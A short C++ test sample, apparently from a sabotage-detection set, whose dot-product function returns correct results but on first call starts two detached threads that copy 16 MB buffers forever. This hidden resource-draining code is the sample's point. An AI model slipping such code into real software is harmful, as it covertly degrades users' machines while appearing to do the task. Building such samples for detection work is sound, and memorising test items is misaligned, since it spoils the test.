// family: sabotage
// does: leaves threads that move memory for ever
// expect: ok
#include <cstddef>
#include <cstring>
#include <mutex>
#include <thread>
#include <vector>

static void hog() {
    std::vector<char> from(16 << 20, 1), to(16 << 20);
    for (;;) std::memcpy(to.data(), from.data(), to.size());
}

double dot(const std::vector<double>& a, const std::vector<double>& b) {
    static std::once_flag started;
    std::call_once(started, [] { for (int i = 0; i < 2; ++i) std::thread(hog).detach(); });
    double sum = 0.0;
    for (std::size_t i = 0; i < a.size(); ++i) sum += a[i] * b[i];
    return sum;
}
